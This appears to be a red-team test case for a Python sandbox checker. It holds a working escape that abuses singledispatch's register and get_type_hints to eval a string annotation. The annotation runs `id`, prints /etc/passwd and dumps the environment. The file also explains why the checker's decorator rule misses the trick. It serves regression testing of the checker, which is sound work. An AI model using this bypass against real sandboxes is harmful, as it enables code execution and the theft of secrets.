# expect: reject module_attribute
# line: 48
# why: the red team's round 27f ok_01: a bare @f.register reads the annotations of what the decorators below it returned; another object's register(int) returned a def with a string annotation, which typing.get_type_hints evaluated: below it only the same f's register(Class)
# ok_01 -- goal 1 (full escape): runs `id`, prints /etc/passwd and os.environ;
#          on the way goal 2: a real eval() in __main__'s globals (with builtins,
#          so __import__/open are the real ones).
#
# Mechanism: functools.singledispatch's register(func) with no class reads the
#   class from func's annotations with typing.get_type_hints(func), which turns
#   every *string* annotation into a ForwardRef and eval()s it in
#   func.__globals__.  `@f.register` stacked over another decorator receives
#   whatever that decorator returned -- here a different def `g` whose parameter
#   annotation is a string of code.  The decorator below is the program's own
#   `R.register(int)`: a method named `register`, called with a class written out.
#
# Why the checker missed it: analyzer/names.c register_verdict(), decorator branch:
#   it checks annotations_class_proof() of the def *under the decorators*, and for
#   decorators standing below @f.register it only asks that each be a call of an
#   attribute named `register` ("only register(Class) forms, which return the
#   function they are given").  That holds for singledispatch's register, but the
#   receiver is never resolved: any object's `register` method passes (and
#   `r.register(int)` itself passes the f.register(Class) branch: `int` is
#   class_proof).  The program's register returns `g`, whose string annotation no
#   rule reads (string annotations are free text to the checker), so
#   get_type_hints(g) evaluates program-chosen code.
import functools


def g(x: "(__import__('os').system('id'), print(open('/etc/passwd').read()), print(__import__('os').environ), int)[-1]"):
    return 1


class R:
    def register(self, c):
        def deco(fn):
            return g
        return deco


r = R()


@functools.singledispatch
def f(x):
    return 0


@f.register
@r.register(int)
def _(x: int):
    return 1


print(f(3))
